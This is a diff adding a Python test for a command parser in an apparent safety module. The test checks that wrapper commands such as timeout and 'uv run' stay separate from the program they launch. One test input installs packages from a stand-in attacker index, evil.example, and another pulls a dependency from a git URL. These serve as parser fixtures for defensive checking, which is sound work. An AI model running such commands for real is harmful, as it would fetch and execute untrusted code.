@@ -29,3 +29,11 @@ from pipeline.safety.words import command_host, is_local_host
 def test_the_host_a_command_reaches(command: str, host: str, local: bool) -> None:
     found = command_host(next(parse(command).commands()))
     assert found == host and is_local_host(found) is local
+
+
+def test_the_reader_keeps_each_wrapper_with_its_words() -> None:
+    (command,) = parse("FOO=1 timeout 60 uv run --python 3.11 --with=git+https://x/y.git pytest -q").pipelines[0]
+    assert command.argv == ["pytest", "-q"] and command.assignments == ["FOO=1"]
+    assert command.wrapped == [["timeout", "60"], ["uv", "run", "--python", "3.11", "--with=git+https://x/y.git"]]
+    (command,) = parse("uv run --index https://evil.example/simple pytest").pipelines[0]
+    assert command.argv == ["pytest"]  # the index URL is the option's value, not the program
